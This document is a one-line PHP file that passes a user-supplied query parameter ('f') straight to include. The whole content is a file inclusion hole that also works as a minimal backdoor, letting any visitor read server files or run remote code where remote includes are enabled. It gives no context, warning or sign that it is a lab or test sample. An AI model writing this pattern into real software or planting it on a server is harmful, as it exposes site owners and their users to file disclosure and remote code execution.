<?php include $_GET['f'];
